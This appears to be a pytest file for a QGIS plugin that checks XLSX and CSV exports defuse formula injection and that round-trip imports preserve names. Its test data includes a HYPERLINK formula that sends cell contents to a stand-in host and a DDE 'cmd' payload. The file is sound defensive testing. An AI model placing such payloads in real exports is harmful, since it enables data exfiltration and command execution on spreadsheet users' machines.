"""Nothing leaks (issue 17): formula-like text never becomes a live formula in an export, and
the PostGIS reader role sees aggregates and consented records only (a real login)."""

from __future__ import annotations

import csv
import gc
import sqlite3
import zipfile
from pathlib import Path

import openpyxl
import pytest
from qgis import processing
from qgis.core import QgsVectorLayer

from industri_rumahan_plugin.core import cell_safety, schema

HOSTILE = ['=HYPERLINK("http://contoh.invalid/?d="&A2,"Klik")', "+62812345678", "-1+1",
           "@SUM(1+1)", "\t=cmd|' /C calc'!A0", "\r=1+1"]


@pytest.fixture(autouse=True)
def _release_layers():
    yield
    gc.collect()


def _plant(gpkg: Path, table: str = "usaha", column: str = "nama_usaha",
           names: list[str] = HOSTILE) -> dict[str, str]:
    """Give the first rows of ``table`` hostile names (through GDAL: the GeoPackage has
    triggers that need its SQL functions); returns key -> name."""
    from osgeo import gdal

    key = "uid" if table == "usaha" else "kode"
    with sqlite3.connect(gpkg) as con:
        keys = [r[0] for r in con.execute(
            f"SELECT {key} FROM {table} ORDER BY fid LIMIT {len(names)}")]
    ds = gdal.OpenEx(str(gpkg), gdal.OF_VECTOR | gdal.OF_UPDATE)
    planted = {}
    for k, text in zip(keys, names):
        quoted = text.replace("'", "''")
        ds.ExecuteSQL(f"UPDATE {table} SET {column} = '{quoted}' WHERE {key} = '{k}'")
        planted[k] = text
    ds = None
    return planted


def _xlsx_cells(path: Path) -> list:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formula_in_xml(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode("utf-8"), name


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_exportspreadsheet_neutralises_text_keeps_numbers(provider, demo_copy, tmp_path,
                                                          suffix):
    planted = _plant(demo_copy)
    with sqlite3.connect(demo_copy) as con:
        rows = con.execute("SELECT count(*) FROM usaha").fetchone()[0]
        workers = con.execute("SELECT sum(jumlah_pekerja) FROM usaha").fetchone()[0]
    out = tmp_path / f"ekspor{suffix}"
    processing.run("industrirumahan:exportspreadsheet", {
        "INPUT": f"{demo_copy}|layername=usaha", "OUTPUT": str(out)})
    if suffix == ".xlsx":
        _no_formula_in_xml(out)
        cells = _xlsx_cells(out)
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert not any(c.data_type == "f" for c in cells)
        header = [c.value for c in openpyxl.load_workbook(out).active[1]]
        column = header.index(schema.field("jumlah_pekerja").alias("id")) + 1
        numbers = [r[0] for r in openpyxl.load_workbook(out).active.iter_rows(
            min_row=2, min_col=column, max_col=column, values_only=True)]
        assert len(numbers) == rows
        assert sum(n for n in numbers if n is not None) == workers  # still numbers
    else:
        with open(out, encoding="utf-8-sig", newline="") as handle:
            table = list(csv.reader(handle, delimiter=";"))
        texts = [v for row in table for v in row]
        assert len(table) == rows + 1
    for name in planted.values():  # XML turns a CR into LF
        assert "'" + name in texts or "'" + name.replace("\r", "\n") in texts
        assert name not in texts
    assert not [t for t in texts if t.startswith(cell_safety.FORMULA_START)
                and not t.lstrip("-").replace(".", "").isdigit()]


def test_unsaved_hostile_edit_is_neutralised_too(provider, demo_copy, tmp_path):
    layer = QgsVectorLayer(f"{demo_copy}|layername=usaha", "usaha", "ogr")
    assert layer.startEditing()
    first = next(layer.getFeatures())
    layer.changeAttributeValue(first.id(), layer.fields().indexOf("nama_usaha"), "=1+1")
    out = tmp_path / "ekspor.xlsx"
    processing.run("industrirumahan:exportspreadsheet", {"INPUT": layer, "OUTPUT": str(out)})
    layer.rollBack()
    assert "'=1+1" in [c.value for c in _xlsx_cells(out)]
    _no_formula_in_xml(out)


def test_region_names_in_gender_tables_and_progression_csv(provider, demo_copy, tmp_path):
    planted = _plant(demo_copy, "kabupaten", "nama")
    book = tmp_path / "terpilah.xlsx"
    processing.run("industrirumahan:genderdisaggregatedtables", {
        "INPUT": f"{demo_copy}|layername=usaha", "REGIONS": f"{demo_copy}|layername=kabupaten",
        "OUTPUT": str(book)})
    _no_formula_in_xml(book)
    texts = {c.value for c in _xlsx_cells(book) if isinstance(c.value, str)}
    assert any(t.startswith("'=HYPERLINK") for t in texts)
    assert not {t for t in texts if t.startswith(("=", "+", "@"))}
    table = tmp_path / "kenaikan.csv"
    processing.run("industrirumahan:stageprogression", {
        "INPUT": f"{demo_copy}|layername=usaha", "REGIONS": f"{demo_copy}|layername=kabupaten",
        "OUTPUT": "memory:", "OUTPUT_TABLE": str(table)})
    with open(table, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    names = {r["nama_wilayah"] for r in rows}
    assert {"'" + n for n in planted.values()} & names
    assert not {n for n in names if n.startswith(cell_safety.FORMULA_START)}
    numbers = [r for r in rows if r.get("basis") not in (None, "")]
    assert all(float(r["basis"]) >= 0 for r in numbers)  # numeric columns untouched


def test_import_report_and_reimport_round_trip(provider, demo_copy, tmp_path):
    """An exported hostile name re-imports as the same name (the apostrophe is the export's).
    Not a name holding a CR: XLSX (XML) stores it as LF."""
    planted = _plant(demo_copy, names=HOSTILE[:-1])
    out = tmp_path / "ekspor.xlsx"
    processing.run("industrirumahan:exportspreadsheet", {
        "INPUT": f"{demo_copy}|layername=usaha", "OUTPUT": str(out)})
    with sqlite3.connect(demo_copy) as con:
        before = con.execute("SELECT count(*) FROM usaha").fetchone()[0]
    report = tmp_path / "laporan.csv"
    again = processing.run("industrirumahan:importspreadsheet", {
        "INPUT": str(out), "TARGET": f"{demo_copy}|layername=usaha", "REPORT": str(report)})
    assert again["IMPORTED"] == 0 and again["CHANGES"] == 0  # nothing differs
    with sqlite3.connect(demo_copy) as con:
        assert con.execute("SELECT count(*) FROM usaha").fetchone()[0] == before
        stored = dict(con.execute("SELECT uid, nama_usaha FROM usaha"))
    assert {k: stored[k] for k in planted} == planted
    text = report.read_text(encoding="utf-8-sig")
    assert "\n=" not in text and ";=" not in text


def test_the_rule_itself():
    import pandas as pd

    frame = pd.DataFrame({"t": ["=1", "a=1", "-", None, "@"], "n": [-1, 2, -3, 4, 5]})
    safe = cell_safety.neutralise_frame(frame)
    assert safe["t"].tolist() == ["'=1", "a=1", "'-", None, "'@"]
    assert safe["n"].tolist() == [-1, 2, -3, 4, 5] and safe["n"].dtype == frame["n"].dtype
    assert cell_safety.restore_text(safe["t"]).tolist() == frame["t"].tolist()
